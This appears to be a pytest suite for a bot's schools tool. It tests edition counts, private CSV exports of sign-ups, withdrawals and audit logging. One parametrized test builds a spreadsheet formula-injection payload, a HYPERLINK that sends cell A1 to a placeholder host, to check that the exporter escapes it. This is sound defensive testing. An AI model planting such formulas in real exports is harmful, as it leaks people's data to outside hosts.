"""`willaq schools`: counts, the table of an edition, taking a woman out; what spreadsheets run."""

import csv
import io
import json
import re
from collections.abc import AsyncIterator
from datetime import date
from pathlib import Path

import pytest

from bot.dialogue.enrolment import Enrol, Enrolment, Withdraw
from bot.private_file import harmless
from bot.schools_desk import COLUMNS, table
from bot.store.base import Enrolled
from bot.store.sqlite import SqliteStore
from tests.people import KILLA, NORA, ROSA, Person
from tests.store.contract import NOW, answers
from tests.story import STORIES
from tests.willaq import command, home_with

EDITION = "lircay-2040"
DAY = date(2027, 1, 15)
KEPT = date(2040, 2, 27)


@pytest.fixture
async def home(tmp_path: Path) -> AsyncIterator[Path]:
    """Rosa has a place, Killa waits, Nora has withdrawn."""
    store = await SqliteStore.open(tmp_path / "data" / "willaq.db", tmp_path / "data.key")
    await signs_up(store, ROSA, Enrol(EDITION, "enrolled", "=Rosa", "09", "Ñan", "1 es", KEPT))
    await signs_up(store, KILLA, Enrol(EDITION, "waiting", "Killa", "21", "", "1 quy", KEPT))
    await signs_up(store, NORA, Enrol(EDITION, "enrolled", "Nora", "15", "", "1 es", KEPT))
    await signs_up(store, NORA, Withdraw(EDITION))
    await store.close()
    yield home_with(tmp_path, STORIES / f"{EDITION}.md")


async def signs_up(store: SqliteStore, who: Person, effect: Enrol | Withdraw) -> None:
    await store.visit(
        channel="telegram", message_id=f"{who.name} {effect}", address=str(who.chat_id), ref="",
        now=NOW, lease_s=60, pulled=False, decide=answers(effects=[effect]),
    )  # fmt: skip


def rows(file: Path) -> list[dict[str, str]]:
    return [*csv.DictReader(io.StringIO(file.read_text("utf-8-sig")))]


async def test_list_counts_each_edition(home: Path, tmp_path: Path) -> None:
    code, said, _ = await command(tmp_path, "schools", "list", "--json", home=str(home))
    assert code == 0
    found = {row["edition"]: row for row in json.loads(said)}
    assert found[EDITION] == {
        "edition": EDITION, "school": "escuela-onamiap", "starts_on": "2040-01-14",
        "deadline": "2040-01-06", "open": True, "capacity": 20,
        "enrolled": 1, "waiting": 1, "withdrawn": 1,
    }  # fmt: skip
    assert found["feminista-2021"]["open"] is False
    code, said, _ = await command(tmp_path, "schools", "list", home=str(home))
    (line,) = (line for line in said.splitlines() if line.startswith(EDITION))
    assert line.split() == [EDITION, "2040-01-14", "2040-01-06", "20", "1", "1", "1"]


async def test_export_writes_what_they_agreed_to_give_and_for_nobody_else_to_read(
    home: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out.csv"
    out.write_text("old")
    code, said, logged = await command(
        tmp_path, "schools", "export", EDITION, "--out", str(out), home=str(home)
    )
    assert code == 0, logged
    assert out.stat().st_mode & 0o777 == 0o600
    rosa, killa, nora = rows(out)
    assert rosa == {
        "number": "1", "name": "'=Rosa", "region": "Huancavelica", "organization": "Ñan",
        "channel": "telegram", "state": "enrolled", "consent": "1", "language": "es",
        "agreed_on": "2027-01-15",
    }  # fmt: skip
    assert (killa["name"], killa["state"], killa["language"]) == ("Killa", "waiting", "quy")
    assert (nora["name"], nora["region"], nora["state"]) == ("", "", "withdrawn")
    assert "3 rows" in said
    assert re.search(rf"edition={EDITION}.*rows=3", logged), "who took it out can be seen"
    assert not re.search("Rosa|Killa|Huancavelica|Ñan", said + logged)
    assert str(ROSA.chat_id) not in out.read_text()


async def test_an_edition_that_there_is_not_is_told_and_which_are(
    home: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out.csv"
    code, said, error = await command(
        tmp_path, "schools", "export", "lircay", "--out", str(out), home=str(home)
    )
    assert (code, said) == (1, "")
    assert f'There is no edition "lircay". There are: {"feminista-2021"}' in error
    assert not out.exists()


async def test_a_place_nobody_may_write_to_is_told_and_nothing_is_left(
    home: Path, tmp_path: Path
) -> None:
    out = tmp_path / "nowhere" / "out.csv"
    code, _, error = await command(
        tmp_path, "schools", "export", EDITION, "--out", str(out), home=str(home)
    )
    assert code == 1
    assert "No such file or directory. Nothing was written." in error


async def test_organizers_take_out_who_asks_them(home: Path, tmp_path: Path) -> None:
    code, _, _ = await command(tmp_path, "schools", "withdraw", EDITION, "2", home=str(home))
    assert code == 0
    code, _, error = await command(tmp_path, "schools", "withdraw", EDITION, "2", home=str(home))
    assert (code, error) == (1, f"Nobody has number 2 in {EDITION}.\n")
    out = tmp_path / "out.csv"
    await command(tmp_path, "schools", "export", EDITION, "--out", str(out), home=str(home))
    assert [row["state"] for row in rows(out)] == ["enrolled", "withdrawn", "withdrawn"]


async def test_the_log_tells_of_names_written_out_and_of_who_was_taken_out(
    home: Path, tmp_path: Path
) -> None:
    out = ("--out", str(tmp_path / "out.csv"))
    await command(tmp_path, "schools", "list", home=str(home))
    await command(tmp_path, "schools", "export", "lircay", *out, home=str(home))
    await command(tmp_path, "schools", "withdraw", EDITION, "99", home=str(home))
    assert await log(tmp_path) == [], "nobody was looked at"
    await command(tmp_path, "schools", "export", EDITION, *out, home=str(home))
    await command(tmp_path, "schools", "withdraw", EDITION, "2", home=str(home))
    assert await log(tmp_path) == [
        ("command", "take out of school", f"edition {EDITION}"),
        ("command", "download sign-ups", f"edition {EDITION}"),
    ]


async def log(home: Path) -> list[tuple[str, str, str]]:
    store = await SqliteStore.open(home / "data" / "willaq.db", home / "data.key")
    try:
        return [(each.door, each.did, each.about) for each in await store.audit()]
    finally:
        await store.close()


async def test_who_signed_up_is_there_also_when_the_edition_is_gone(
    home: Path, tmp_path: Path
) -> None:
    code, said, _ = await command(tmp_path, "schools", "list", "--json")
    assert code == 0
    (row,) = (row for row in json.loads(said) if row["edition"] == EDITION)
    assert (row["enrolled"], row["open"], row["school"]) == (1, False, "")
    out = tmp_path / "out.csv"
    code, _, _ = await command(tmp_path, "schools", "export", EDITION, "--out", str(out))
    assert (code, len(rows(out))) == (0, 3)


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_no_cell_is_a_formula(sign: str) -> None:
    evil = f'{sign}HYPERLINK("http://x.example/"&A1;"Rosa")'
    kept = Enrolment(EDITION, "enrolled", evil, "09", evil, "1 es", DAY)
    (header, row) = csv.reader(io.StringIO(table([Enrolled(1, "telegram", kept)]), newline=""))
    assert tuple(header) == COLUMNS
    assert row[1] == row[3] == f"'{evil}"
    assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]


@pytest.mark.parametrize("cell", ["Rosa", "", "Ñusta, la de Lircay", 'la "Flaca"', "O'Higgins"])
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert harmless(cell) == cell
